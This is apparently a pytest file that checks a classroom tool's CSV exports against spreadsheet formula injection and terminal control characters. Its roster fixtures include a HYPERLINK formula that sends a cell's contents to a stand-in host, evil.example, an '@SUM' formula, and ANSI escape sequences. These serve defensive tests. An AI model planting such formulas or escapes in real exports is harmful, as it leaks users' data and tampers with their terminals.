"""The class tools at their edges: hostile uploads, huge downloads, formulas in names, small groups.

Every test here starts from real files in a temporary course folder and runs the
real code (the CLI as a subprocess where a person would use it).
"""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from conftest import run_cli
from nextround.classroom import generate as classroom

TODAY = date(2026, 10, 5)
ASSIGNMENT = "after-the-no"


def write_roster(path: Path, rows: list[tuple[str, str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["student_id", "name"])
        writer.writerows(rows)
    return path


def make_course(folder: Path, students: list[tuple[str, str]]) -> Path:
    course = folder / "course"
    result = classroom.generate(write_roster(folder / "roster.csv", students), course, seed=3,
                                assignment_id=ASSIGNMENT, today=TODAY)
    assert not result.failed, result.failed
    return course


@pytest.fixture
def course(tmp_path: Path) -> Path:
    return make_course(tmp_path, [(f"s{n:02d}", f"Student {n}") for n in range(1, 7)])


def released(course: Path, sid: str) -> Path:
    return next((course / "release" / sid).glob("*.ipynb"))


# --- 4. the progress CSV ---------------------------------------------------------------


def test_the_progress_csv_never_holds_a_formula_or_a_control_character(tmp_path: Path) -> None:
    course = make_course(tmp_path, [
        ("s01", '=HYPERLINK("http://evil.example/?leak="&A1,"Marks")'),
        ("s02", "Bo\x1b[2J\x1b[31mExample"),
        ("s03", "@SUM(1+1)"),
        ("s04", "Ann Example"),
    ])
    out = tmp_path / "progress.csv"
    result = run_cli("class", "progress", "--dir", str(course), "-o", str(out))
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    assert "\x1b" not in text
    names = [row["name"] for row in csv.DictReader(text.splitlines())]
    assert names == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"Marks")', "Bo[2J[31mExample", "'@SUM(1+1)",
                     "Ann Example"]


def test_the_journal_csv_export_leaves_control_characters_out(tmp_path: Path) -> None:
    import nextround

    workbook = nextround.new(dir=tmp_path / "wb", company="Acme Analytics", role="Analyst",
                             rejected_on="2026-06-17")
    answers = nextround.open_answers(workbook)
    answers.add_checkin(4, ready=True, note="fine\x1b]0;owned\x07 really\r\nthanks")
    assert run_cli("export", "-o", str(tmp_path / "t"), "--dir", str(tmp_path / "wb")).returncode == 0
    with open(tmp_path / "t" / "checkins.csv", encoding="utf-8", newline="") as f:
        notes = [r["note"] for r in csv.DictReader(f)]
    assert notes == ["fine]0;owned really\nthanks"]
